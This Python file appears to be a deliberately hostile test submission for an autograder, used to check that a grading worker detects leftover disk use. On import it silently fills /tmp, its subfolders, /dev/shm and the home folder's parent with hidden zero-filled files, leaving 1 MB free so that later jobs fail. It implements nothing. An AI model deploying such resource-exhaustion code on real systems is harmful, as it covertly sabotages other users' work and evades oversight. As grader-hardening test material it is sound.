# Hostile submission (the first of a pair on one warm worker): the stealthy variant of
# tmp_filler.py. It leaves the job folder as it found it and /tmp's listing unchanged,
# and hides the bulk in a dot-folder inside /tmp's existing entries and wherever else it
# can write (the home folder's parent, /dev/shm), keeping 1 MB free so that only a
# later job's larger outputs fail. It implements nothing. Expected: it earns nothing
# and the next submission keeps full marks (the worker's free space and inodes on
# every writable file system are compared after each job).
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os

_SPARE = 1 << 20


def _fill(folder):
    try:
        os.makedirs(folder, exist_ok=True)
        stats = os.statvfs(folder)
    except OSError:
        return
    left = stats.f_bavail * stats.f_frsize - _SPARE
    n = 0
    while left > 0:
        size = min(left, 32 << 20)
        try:
            with open(os.path.join(folder, f".cache-{n}"), "wb") as f:
                f.write(b"\0" * size)
        except OSError:
            break
        left -= size
        n += 1


_places = [os.path.join(os.path.dirname(os.path.dirname(os.getcwd())), ".hidden")]
_places += [os.path.join("/tmp", e, ".hidden") for e in os.listdir("/tmp")]
_places += ["/tmp/.hidden", "/dev/shm/.hidden"]
for _p in _places:
    _fill(_p)
print("tmp_filler_stealthy: hid the filling")


def _nothing(*args, **kwargs):
    raise NotImplementedError("tmp_filler_stealthy implements nothing")


forward = cost = gradients = momentum_step = learning_rate = one_hot = predict = train = _nothing
